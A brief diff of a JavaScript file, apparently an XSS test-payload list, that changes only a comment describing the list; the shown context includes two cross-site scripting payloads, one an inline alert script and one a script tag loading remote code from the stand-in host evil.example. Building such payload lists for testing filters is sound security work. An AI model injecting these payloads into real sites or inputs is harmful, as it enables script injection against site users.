@@ -1,6 +1,6 @@
 const raw = String.raw
 
-/** Each line is one attempt; `alert(1)` stands for any script. */
+/** One payload per line; `alert(1)` represents any script. */
 const lines = raw`
 <script>alert(1)</script>
 <SCRIPT SRC=//evil.example/x.js></SCRIPT>
